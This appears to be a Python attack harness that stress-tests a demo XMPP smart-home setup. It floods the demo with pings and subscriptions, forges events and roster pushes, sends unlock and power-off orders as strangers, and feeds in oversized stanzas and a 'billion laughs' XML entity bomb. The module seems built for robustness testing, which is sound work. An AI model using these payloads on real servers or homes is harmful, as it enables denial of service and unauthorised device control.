"""What a hostile account says, by name: each attack is a round that can be said again and again.

Run by itself (a process of its own keeps nobody else's clock), it attacks a running demo until its input ends.
"""

import argparse
import asyncio
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
import itertools
import json
from pathlib import Path
import sys
from typing import Any, Final, Self

from . import attack_words as words
from .hostile import PING, Hostile

_AT_ONCE: Final = 20  # stanzas


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """Whom it is about."""

    home: str
    """The house's full JID."""
    cabin: str
    """The full JID of the house that follows it."""
    attacker: str
    """The own bare JID."""
    feed: str = "feed"
    """The node of home's feed, as far as the attacker knows."""

    @property
    def home_bare(self) -> str:
        """The house's account."""
        return self.home.partition("/")[0]

    @classmethod
    def of(cls, facts: Mapping[str, Any], user: str, feed: str = "feed") -> Self:
        """Return the houses of a running demo."""
        home, cabin = (
            facts["homeassistant"][name]["concentrator_jid"]
            for name in ("home", "cabin")
        )
        return cls(
            home=home,
            cabin=cabin,
            attacker=facts["accounts"][user]["jid"],
            feed=feed,
        )


type Words = Callable[[Target], Iterable[str]]


@dataclass(frozen=True, slots=True)
class Attack:
    """Stanzas, and who says them; `cut` where the server ends the stream of each.

    It is looked at so many times as long: a stanza of 200 kB takes 20 s where 10 kB a second get through.
    """

    user: str
    words: Words
    cut: bool = False
    longer: int = 1


def _many(count: int, one: Callable[[Target, int], str]) -> Words:
    """Return so many stanzas, each with a number of its own."""

    def say(target: Target) -> Iterator[str]:
        for number in range(count):
            yield one(target, number)

    return say


def _pings(target: Target, number: int) -> str:
    return words.iq(target.home, PING, f"p{number}")


def _walk(target: Target, number: int) -> str:
    question = (
        f"<getAllNodes xmlns='{words.TREE}' src='{words.SOURCE}' parameters='true'/>"
    )
    return words.iq(target.home, question, f"w{number}")


def _follow(target: Target, number: int) -> str:
    return words.iq(target.home, words.follow(words.LIGHT, f"s{number}"), f"f{number}")


def _subscribe(target: Target, number: int) -> str:
    where = target.feed if number % 2 else f"{target.feed}{number}"
    request = words.subscribe(where, f"{target.attacker}/{number}")
    return words.iq(target.home_bare, request, f"u{number}", "set")


def _wish(target: Target, number: int) -> str:
    said = words.INJECTIONS[number % len(words.INJECTIONS)]
    content = words.introduction(f"{said} {number}", f"token-{number}")
    return f"<presence type='subscribe' to='{target.home_bare}'>{content}</presence>"


def _presence(target: Target, number: int) -> str:
    kind = ("", "type='unavailable'", "type='probe'", "type='subscribed'")[number % 4]
    caps = (
        "<c xmlns='http://jabber.org/protocol/caps' hash='sha-1' node='urn:evil'"
        f" ver='{number:027d}='/>"
    )
    return f"<presence to='{target.home}' {kind}><show>dnd</show>{caps}</presence>"


def _order(target: Target, number: int) -> str:
    said = (words.unlock(), words.order(words.LIGHT, "power", "false"))[number % 2]
    kind = ("", "type='headline'", "type='chat'", "type='groupchat'", "type='error'")
    late = "<delay xmlns='urn:xmpp:delay' stamp='2030-01-01T00:00:00Z'/>"
    return words.message(target.home, said + late, kind[number % 5])


def _reply(target: Target, number: int) -> str:
    """Return an answer to a request that nobody made, at least not of this account."""
    to = target.cabin if number % 2 else target.home
    said = (
        words.lie(number),
        words.roster_push(target.attacker),
        f"<resp xmlns='{words.CONTROL}'/>",
        "",
    )
    kind = ("result", "error")[number % 3 == 2]
    identifier = f"{number:016x}" if number % 5 else f"p{number}"
    return words.iq(to, said[number % 4], identifier, kind)


def _same_id(target: Target, number: int) -> str:
    said = (PING, words.read(words.LIGHT, 1), words.follow(words.LIGHT, 1))
    return words.iq(target.home, said[number % 3], "1")


def _forged(target: Target) -> Iterator[str]:
    """Yield events, news and copies in others' names, to both houses."""
    kinds = ("type='headline'", "type='normal'", f"from='{target.home}'")
    payloads = (
        *words.forged_events(target.feed, target.attacker),
        *words.forged_news(),
        *(
            words.forwarded(target.home, kind)
            for kind in ("received", "sent", "result")
        ),
    )
    for to, kind in itertools.product((target.cabin, target.home), kinds):
        for payload in payloads:
            yield words.message(to, payload, kind)


def _pushes(target: Target) -> Iterator[str]:
    """Yield what only the own server may say."""
    own = target.attacker
    for number, payload in enumerate((words.roster_push(own), words.block_push(own))):
        for to in (target.home, target.cabin):
            for claim in ("", f"from='{target.home_bare}'"):
                said = words.iq(to, payload, f"r{number}", "set")
                yield said.replace("<iq ", f"<iq {claim} ", 1)
    item = (
        f"<publish node='{target.feed}'><item id='0-1'>{words.lie()}</item></publish>"
    )
    publish = f"<pubsub xmlns='{words.PUBSUB}'>{item}</pubsub>"
    yield words.iq(target.home_bare, publish, "r8", "set")
    drop = (
        f"<pubsub xmlns='{words.PUBSUB}#owner'><delete node='{target.feed}'/></pubsub>"
    )
    yield words.iq(target.home_bare, drop, "r9", "set")


def _odd(target: Target) -> Iterator[str]:
    """Yield requests about nodes, sources and values with names that no house has."""
    for number, name in enumerate(words.ODD_NODES):
        where = f"id='{words.quoted(name)}' src='{words.SOURCE}'"
        source = f"<getRootNodes xmlns='{words.TREE}' src='{words.quoted(name)}'/>"
        for kind, payload in (
            ("get", words.read(name, number)),
            ("set", words.order(name)),
            ("set", words.order(words.LIGHT, name, name)),
            ("get", words.follow(name, number)),
            ("get", f"<getNode xmlns='{words.TREE}' {where}/>"),
            ("get", source),
        ):
            yield words.iq(target.home, payload, f"o{number}{payload[1:9]}", kind)


def _heavy(target: Target) -> Iterator[str]:
    """Yield stanzas as large, deep and wide as servers let through."""
    most = 200_000  # bytes
    levels, wide = most // 10, most // 4
    for number, inside in enumerate(
        (
            "<q xmlns='urn:q'>" + "x" * most + "</q>",
            f"<q xmlns='urn:q' a='{'x' * most}'/>",
            f"<q xmlns='urn:q'>{'<a>' * levels}{'</a>' * levels}</q>",
            f"<q xmlns='urn:q'>{'<a/>' * wide}</q>",
            "<q xmlns='urn:q'"
            + "".join(f" a{n}='{n}'" for n in range(most // 16))
            + "/>",
            f"<req xmlns='{words.SENSOR}' id='1'>"
            + words.node("x") * (most // 34)
            + "</req>",
            words.order(words.LIGHT, "power", "9" * most),
            f"<set xmlns='{words.CONTROL}'>{words.node(words.LOCK)}"
            + words.FORM.format("<field var='x'><value>1</value></field>" * 4_000)
            + "</set>",
        )
    ):
        yield words.iq(target.home, inside, f"h{number}", "set")


def _beyond(target: Target) -> Iterator[str]:
    """Yield what ends the stream of who says it."""
    say = words.iq
    yield say(target.home, f"<q xmlns='urn:q' a='{'x' * 1_200_000}'/>", 1)
    yield say(target.home, "<q xmlns='urn:q'>" + "x" * 1_200_000 + "</q>", 1)
    yield f"<!DOCTYPE x [{ENTITIES}]>" + say(target.home, "<q>&e9;</q>", 1)
    yield say(target.home, "<q>&lol;</q>", 1)
    yield say(target.home, "<q>&#0;</q>", 1)
    yield say(target.home, "<q a='1' a='2'/>", 1)
    yield "<?xml-stylesheet href='x'?>" + say(target.home, PING, 1)
    yield "</stream:stream>"
    yield "<iq\xff"


ENTITIES: Final = "<!ENTITY e0 'lol'>" + "".join(
    f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 10)
)
"""Each is ten times the one before (a billion laughs)."""

ATTACKS: Final[Mapping[str, Attack]] = {
    "pings of a contact": Attack("guest", _many(2_000, _pings)),
    "pings of a stranger": Attack("stranger", _many(2_000, _pings)),
    "all nodes again and again": Attack("guest", _many(100, _walk)),
    "10,000 subscriptions to values": Attack("guest", _many(10_000, _follow)),
    "subscriptions to feeds": Attack("guest", _many(1_000, _subscribe)),
    "requests to be friends": Attack("stranger", _many(1_000, _wish)),
    "presence of a contact": Attack("guest", _many(2_000, _presence)),
    "presence of a stranger": Attack("stranger", _many(2_000, _presence)),
    "orders of a contact": Attack("guest", _many(500, _order)),
    "orders of a stranger": Attack("stranger", _many(500, _order)),
    "replies of a contact": Attack("guest", _many(2_000, _reply)),
    "replies of a stranger": Attack("stranger", _many(2_000, _reply)),
    "the same id": Attack("guest", _many(500, _same_id)),
    "forged by a contact": Attack("guest", _forged),
    "forged by a stranger": Attack("stranger", _forged),
    "pushes of a contact": Attack("guest", _pushes),
    "pushes of a stranger": Attack("stranger", _pushes),
    "odd names": Attack("guest", _odd),
    "odd names of a stranger": Attack("stranger", _odd),
    "heavy stanzas": Attack("guest", _heavy, longer=4),
    "heavy stanzas of a stranger": Attack("stranger", _heavy, longer=4),
    "what ends a stream": Attack("guest", _beyond, cut=True),
}


@dataclass(slots=True, kw_only=True)
class Attacker:
    """Carries out one attack in a running demo, at most `pace` bytes a second if that is not 0."""

    facts: Mapping[str, Any]
    attack: Attack
    feed: str = "feed"
    pace: float = 0.0
    heard: Counter[str] = field(default_factory=Counter)
    """What came back, and how the server ended streams."""

    async def round(self, most: int | None = None) -> None:
        """Say all there is to be said once, or the first `most` of it; return when the server has passed it on."""
        said = itertools.islice(self._words(), most)
        if self.attack.cut:
            for one in said:
                await self._on_streams_of_their_own(one)
            return
        async with Hostile.logged_in(self.facts, self.attack.user) as stream:
            await self._say(stream, said)

    async def until(self, over: asyncio.Event) -> None:
        """Go on and on."""
        while not over.is_set():
            if self.attack.cut:
                await self.round()
                continue
            async with Hostile.logged_in(self.facts, self.attack.user) as stream:
                said = itertools.chain.from_iterable(
                    iter(lambda: list(self._words()), None)
                )
                await self._say(
                    stream, itertools.takewhile(lambda _: not over.is_set(), said)
                )

    def _words(self) -> Iterable[str]:
        target = Target.of(self.facts, self.attack.user, self.feed)
        return self.attack.words(target)

    async def _on_streams_of_their_own(self, one: str) -> None:
        async with Hostile.logged_in(self.facts, self.attack.user, "cut") as stream:
            await stream.send(one)
            await stream.settled()
            self.heard[stream.ended or "nothing"] += 1

    async def _say(self, stream: Hostile, said: Iterable[str]) -> None:
        loop = asyncio.get_running_loop()
        begun, sent = loop.time(), 0
        for text in _together(said, self.pace):
            await stream.send(text)
            sent += len(text)
            if self.pace:
                await asyncio.sleep(max(0.0, begun + sent / self.pace - loop.time()))
        await stream.settled()
        self.heard += stream.heard


def _together(said: Iterable[str], most: float) -> Iterator[str]:
    """Yield stanzas, some at once; more than `most` bytes only where one is that long, if that is not 0."""
    text, count = "", 0
    for one in said:
        if count == _AT_ONCE or (most and text and len(text) + len(one) > most):
            yield text
            text, count = "", 0
        text, count = text + one, count + 1
    if text:
        yield text


async def _until_told(attacker: Attacker) -> None:
    """Attack until the input ends."""
    over = asyncio.Event()

    async def listen() -> None:
        await asyncio.to_thread(sys.stdin.read)
        over.set()

    async with asyncio.TaskGroup() as group:
        group.create_task(listen())
        group.create_task(attacker.until(over))


def main() -> int:
    """Attack as the command line says; print what came back, as JSON."""
    parser = argparse.ArgumentParser(prog="attacks", description=__doc__)
    parser.add_argument("facts", type=Path)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--feed", default="feed")
    parser.add_argument("--pace", type=float, default=0.0)
    options = parser.parse_args()
    attacker = Attacker(
        facts=json.loads(options.facts.read_text()),
        attack=ATTACKS[options.attack],
        feed=options.feed,
        pace=options.pace,
    )
    asyncio.run(_until_told(attacker))
    print(json.dumps(attacker.heard))
    return 0


if __name__ == "__main__":
    sys.exit(main())
